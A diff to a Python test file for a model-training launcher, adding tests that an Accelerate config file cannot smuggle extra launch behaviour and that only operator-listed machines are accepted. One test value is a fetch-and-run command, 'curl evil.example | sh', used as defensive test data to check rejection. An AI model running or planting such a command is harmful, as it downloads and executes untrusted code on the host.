@@ -17,7 +17,9 @@ from trainer_engine.config.options import TrainingOptions
 from trainer_engine.config.parse import parse_options
 from trainer_engine.contract.run import RunFolder
 from training.engine import process
-from training.engine.command_line import AccelerateFile, Machines, UnreadableAccelerateConfig, launch_command, process_count, visible_gpus
+from training.engine.accelerate_file import AccelerateFile, UnreadableAccelerateConfig
+from training.engine.command_line import ACCELERATE_FILE, launch_command, process_count, visible_gpus
+from training.engine.machines import MachineRule, Machines, wrong_machines
 
 FAKE = Path(__file__).resolve().parents[2] / "helpers" / "fake_engine.py"
 RUN = Path("/runs/one")
@@ -30,7 +32,7 @@ def options(**values: Any) -> TrainingOptions:
 
 def command(chosen: TrainingOptions, variables: dict[str, str]) -> tuple[list[str], dict[str, str]]:
     spread = chosen.distributed
-    return launch_command(RUN, spread.num_processes, spread.accelerate_config, variables, Machines.of(spread))
+    return launch_command(RUN, spread.num_processes, AccelerateFile.of(spread.accelerate_config), variables, Machines.of(spread))
 
 
 def accelerate_file(folder: Path, **values: Any) -> str:
@@ -88,7 +90,7 @@ def test_the_accelerate_file_says_how_many_share_a_step(tmp_path: Path) -> None:
 def test_an_accelerate_file_is_handed_to_accelerate(tmp_path: Path) -> None:
     path = accelerate_file(tmp_path, distributed_type="MULTI_GPU", num_processes=8, num_machines=2, machine_rank=1)
     argv, _ = command(options(accelerate_config=path), {})
-    assert argv[argv.index("--config_file") + 1] == path and argv[-1] == str(RUN)
+    assert argv[argv.index("--config_file") + 1] == str(RUN / ACCELERATE_FILE) and argv[-1] == str(RUN)
 
 
 def test_an_accelerate_file_for_several_cpu_ranks_becomes_torchrun(tmp_path: Path) -> None:
@@ -226,3 +228,78 @@ def test_the_fake_engine_speaks_the_contract(tmp_path: Path) -> None:
     folder = RunFolder(tmp_path).create()
     assert FakeEngine(folder, "completes", 2, 0.0).run() == 0
     assert folder.exit_file.exists()
+
+
+@pytest.mark.parametrize(
+    ("values", "word"),
+    [
+        ({"rdzv_backend": "c10d"}, "rdzv_backend must be static"),
+        ({"rdzv_backend": "etcd-v2"}, "rdzv_backend must be static"),
+        ({"compute_environment": "AMAZON_SAGEMAKER"}, "compute_environment must be LOCAL_MACHINE"),
+        ({"distributed_type": "DEEPSPEED"}, "distributed_type must be"),
+        ({"distributed_type": "[NO]"}, "distributed_type must be"),
+        ({"deepspeed_config": "{deepspeed_multinode_launcher: pdsh, deepspeed_hostfile: /tmp/hosts}"}, "deepspeed_config is not taken"),
+        ({"mpirun_config": "{mpirun_hostfile: /tmp/hosts}"}, "mpirun_config is not taken"),
+        ({"commands": "['curl evil.example | sh']"}, "commands is not taken"),
+        ({"command_file": "/tmp/a.sh"}, "command_file is not taken"),
+        ({"tpu_use_cluster": "true"}, "tpu_use_cluster is not taken"),
+        ({"main_training_function": "evil"}, "main_training_function must be main"),
+        ({"rdzv_endpoint": "evil.example:1"}, "a key that accelerate does not know"),
+        ({"--rdzv_backend": "c10d"}, "a key that accelerate does not know"),
+        ({"1": "2"}, "a key that accelerate does not know"),
+    ],
+)
+def test_an_accelerate_file_smuggles_nothing_into_the_launch(tmp_path: Path, values: dict[str, str], word: str) -> None:
+    with pytest.raises(UnreadableAccelerateConfig, match=word) as caught:
+        AccelerateFile.read(Path(accelerate_file(tmp_path, **values)))
+    assert "evil" not in str(caught.value)
+
+
+def test_what_accelerate_writes_itself_is_taken(tmp_path: Path) -> None:
+    """The whole output of ``accelerate config`` for two GPUs."""
+    written = {
+        "debug": "false",
+        "distributed_type": "MULTI_GPU",
+        "downcast_bf16": "'no'",
+        "enable_cpu_affinity": "false",
+        "gpu_ids": "all",
+        "machine_rank": 0,
+        "main_training_function": "main",
+        "mixed_precision": "bf16",
+        "num_machines": 1,
+        "num_processes": 2,
+        "rdzv_backend": "static",
+        "same_network": "true",
+        "tpu_env": "[]",
+        "tpu_use_cluster": "false",
+        "tpu_use_sudo": "false",
+        "use_cpu": "false",
+    }
+    found = AccelerateFile.read(Path(accelerate_file(tmp_path, **written)))
+    assert (found.processes, found.machines.count, found.document["mixed_precision"]) == (2, 1, "bf16")
+
+
+@pytest.mark.parametrize(
+    ("host", "allowed", "expected"),
+    [
+        ("10.0.0.7", ("10.0.0.0/24",), True),
+        ("10.0.1.7", ("10.0.0.0/24",), False),
+        ("10.0.0.7", ("10.0.0.7",), True),
+        ("fd00::7", ("fd00::/8",), True),
+        ("fd00::7", ("10.0.0.0/24",), False),
+        ("Trainer-1.", ("trainer-1",), True),
+        ("trainer-1.evil.example", ("trainer-1",), False),
+        ("10.0.0.7", (), False),
+        ("127.0.0.1", (), False),
+        ("0x0a000007", ("10.0.0.0/24",), False),
+    ],
+)
+def test_machine_0_is_one_that_the_operator_lists(host: str, allowed: tuple[str, ...], expected: bool) -> None:
+    rule = MachineRule(allowed)
+    assert (rule.refusal(Machines(2, 1, host)) == "") is expected
+    assert rule.refusal(Machines(1, 0, host)) == "" and MachineRule(is_open=True).refusal(Machines(2, 1, host)) == ""
+
+
+def test_entries_of_the_list_are_names_addresses_or_networks() -> None:
+    assert wrong_machines(["10.0.0.0/24", "fd00::1", "trainer-1.example"]) == []
+    assert wrong_machines(["10.0.0.0/99", "a b", "*", ".", "http://x"]) == ["10.0.0.0/99", "a b", "*", ".", "http://x"]
